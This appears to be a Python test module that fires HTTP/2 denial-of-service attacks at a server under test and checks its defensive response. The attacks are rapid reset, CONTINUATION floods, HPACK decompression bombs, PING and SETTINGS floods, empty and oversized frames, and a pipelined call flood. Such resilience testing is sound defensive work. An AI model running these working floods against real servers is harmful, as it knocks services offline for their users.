"""Attacks on what one connection's frames make the target do: streams reset, header blocks that never
end or expand, control frames, empty frames, oversized frames, and valid calls as fast as one
connection can write them. Each returns the spec's checks (tests/attacks/spec.py). Knows nothing
about how targets are started or judged beyond its own answer.
"""

from __future__ import annotations

from collections.abc import Callable

from tests.attacks import h2
from tests.attacks.h2 import Peer, Requests
from tests.attacks.spec import (
    ATTACK_S,
    BOMB_BLOCK,
    CHECK,
    HEALTH_BODY,
    INFER,
    SETTLE_S,
    SINGLE_FRAME,
    Check,
    Result,
    Target,
    answered,
    closed_or_throttled,
    goaway,
    until,
)


def rapid_reset(t: Target) -> Result:
    with Peer(t.host, t.port) as p:
        p.handshake()
        reqs, sid = Requests(), 1

        def pairs() -> bytes:
            nonlocal sid
            out = []
            for _ in range(256):
                out.append(h2.frame(h2.HEADERS, h2.END_HEADERS, sid, reqs.block(INFER)))
                out.append(h2.rst_stream(sid, h2.CANCEL))
                sid += 2
            return b"".join(out)

        p.flood(pairs, until())
        p.pump(SETTLE_S)
    result = answered(p.answer, goaway(p.answer, h2.ENHANCE_YOUR_CALM))
    return Result(f"{sid // 2} streams opened and reset; {result.summary}", result.checks)


def _open_block(p: Peer, reqs: Requests) -> None:
    """HEADERS of a ModelInfer call without END_HEADERS: CONTINUATIONs must follow."""
    p.write(h2.frame(h2.HEADERS, 0, 1, reqs.block(INFER)), until())


def continuation_flood(t: Target) -> Result:
    with Peer(t.host, t.port) as p:
        p.handshake()
        _open_block(p, Requests())
        # One 5-octet field per frame: the most frames (and field entries) per byte sent.
        chunk = h2.frame(h2.CONTINUATION, 0, 1, h2.literal(b"x", b"y", index=False)) * 1000
        p.flood(lambda: chunk, until())
        p.pump(SETTLE_S)
    result = answered(p.answer, goaway(p.answer, h2.ENHANCE_YOUR_CALM))
    return Result(f"~{p.answer.sent // 14} CONTINUATIONs of one field each; {result.summary}", result.checks)


def continuation_empty(t: Target) -> Result:
    chunk = h2.frame(h2.CONTINUATION, 0, 1) * 1000
    with Peer(t.host, t.port) as p:
        p.handshake()
        _open_block(p, Requests())
        p.flood(lambda: chunk, until())
        p.pump(SETTLE_S)
    sent = p.answer.sent // 9
    result = answered(p.answer, goaway(p.answer, h2.ENHANCE_YOUR_CALM))
    return Result(f"~{sent} empty CONTINUATIONs; {result.summary}", result.checks)


def _bomb(settings: dict[int, int], size: int, reqs: Requests) -> bytes:
    """A request block, one literal filling the target's dynamic table, then references to it."""
    head = reqs.block(INFER) + h2.entry_filling(settings.get(h2.HEADER_TABLE_SIZE, h2.DEFAULT_TABLE_SIZE))
    return head + h2.indexed(h2.NEWEST) * max(0, size - len(head))


def hpack_bomb(t: Target) -> Result:
    with Peer(t.host, t.port) as p:
        block = _bomb(p.handshake(), BOMB_BLOCK, Requests())
        p.write(h2.block_frames(1, block, h2.DEFAULT_MAX_FRAME), until())
        p.pump(ATTACK_S)
    refs = BOMB_BLOCK - 4200
    result = answered(p.answer, goaway(p.answer, h2.ENHANCE_YOUR_CALM))
    return Result(
        f"~{refs} references to a ~4 KB entry (~{refs * 4 >> 10} MiB decoded); {result.summary}",
        result.checks,
    )


def hpack_single_frame(t: Target) -> Result:
    with Peer(t.host, t.port) as p:
        settings = p.handshake()
        size = min(SINGLE_FRAME, settings.get(h2.MAX_FRAME_SIZE, h2.DEFAULT_MAX_FRAME))
        p.write(h2.frame(h2.HEADERS, h2.END_HEADERS, 1, _bomb(settings, size, Requests())), until())
        p.pump(ATTACK_S)
    result = answered(p.answer, goaway(p.answer, h2.ENHANCE_YOUR_CALM))
    return Result(f"one HEADERS frame of {size >> 10} KiB; {result.summary}", result.checks)


def _unread_flood(t: Target, chunk: bytes, what: str) -> Result:
    with Peer(t.host, t.port, reading=False, sndbuf=64 << 10, rcvbuf=64 << 10) as p:
        p.handshake()
        p.flood(lambda: chunk, until())
        p.drain(SETTLE_S * 2)
    result = closed_or_throttled(p.answer)
    return Result(f"{p.answer.sent >> 20} MiB of {what}, never read; {result.summary}", result.checks)


def ping_flood(t: Target) -> Result:
    return _unread_flood(t, h2.ping() * 1000, "PING")


def settings_flood(t: Target) -> Result:
    return _unread_flood(t, h2.settings() * 1000, "empty SETTINGS")


def empty_data(path: str, body: str) -> Callable[[Target], Result]:
    def run(t: Target) -> Result:
        chunk = h2.frame(h2.DATA, 0, 1) * 1000
        with Peer(t.host, t.port) as p:
            p.handshake()
            p.write(h2.frame(h2.HEADERS, h2.END_HEADERS, 1, Requests().block(path)), until())
            p.flood(lambda: chunk, until())
            p.pump(SETTLE_S)
        result = answered(p.answer, goaway(p.answer, h2.ENHANCE_YOUR_CALM))
        return Result(f"~{p.answer.sent // 9} empty DATA on a {body} call; {result.summary}", result.checks)

    return run


def empty_headers(t: Target) -> Result:
    with Peer(t.host, t.port) as p:
        p.handshake()
        sid = 1

        def blocks() -> bytes:
            nonlocal sid
            out = []
            for _ in range(512):
                out.append(h2.frame(h2.HEADERS, h2.END_HEADERS, sid))
                sid += 2
            return b"".join(out)

        p.flood(blocks, until())
        p.pump(SETTLE_S)
    result = answered(p.answer, goaway(p.answer, h2.ENHANCE_YOUR_CALM))
    return Result(f"{sid // 2} empty header blocks, each a new stream; {result.summary}", result.checks)


def oversized(kind: str) -> Callable[[Target], Result]:
    def run(t: Target) -> Result:
        with Peer(t.host, t.port) as p:
            limit = p.handshake().get(h2.MAX_FRAME_SIZE, h2.DEFAULT_MAX_FRAME)
            reqs = Requests()
            if limit >= h2.LARGEST_FRAME:
                return Result(
                    f"MAX_FRAME_SIZE {limit}: no frame can be larger",
                    (Check("answer", True, "not applicable", holds=False),),
                )
            if kind == "headers":
                block = reqs.block(INFER)
                pad = h2.literal(b"x-pad", b"p" * (limit + 1 - len(block) - 8), index=False)
                wire = h2.frame(h2.HEADERS, h2.END_HEADERS, 1, (block + pad)[: limit + 1])
            else:
                wire = h2.frame(h2.HEADERS, h2.END_HEADERS, 1, reqs.block(INFER))
                if kind == "data":
                    wire += h2.frame(h2.DATA, 0, 1, bytes(limit + 1))
                else:  # only the frame header, claiming one octet too many: no payload follows
                    wire += h2.frame(h2.DATA, 0, 1, length=limit + 1)
            p.write(wire, until())
            p.pump(ATTACK_S)
        result = answered(p.answer, goaway(p.answer, h2.FRAME_SIZE_ERROR))
        return Result(
            f"a {kind} frame of {limit + 1} octets (limit {limit}); {result.summary}", result.checks
        )

    return run


def loop_hog(t: Target) -> Result:
    """Valid calls, as fast as one connection can write them: the others must still be served."""
    calls = 0
    with Peer(t.host, t.port) as p:
        p.handshake()
        reqs, sid = Requests(), 1

        def batch() -> bytes:
            nonlocal sid, calls
            out = []
            for _ in range(512):
                out.append(h2.frame(h2.HEADERS, h2.END_HEADERS, sid, reqs.block(CHECK)))
                out.append(h2.frame(h2.DATA, h2.END_STREAM, sid, HEALTH_BODY))
                sid += 2
                calls += 1
            return b"".join(out)

        p.flood(batch, until())
        p.pump(SETTLE_S)
    a = p.answer
    answered = len(a.ended)
    summary = f"{calls} health calls pipelined, {answered} answered; {a.summary()}"
    # Serving the flood is allowed (it is valid), as are throttling and GOAWAY(ENHANCE_YOUR_CALM):
    # what this class checks is the others' service and readiness, judged by the harness.
    any_answer = Check("answer", True, f"any: served, throttled or cut off; got {a.summary()}", holds=False)
    return Result(summary, (any_answer,))
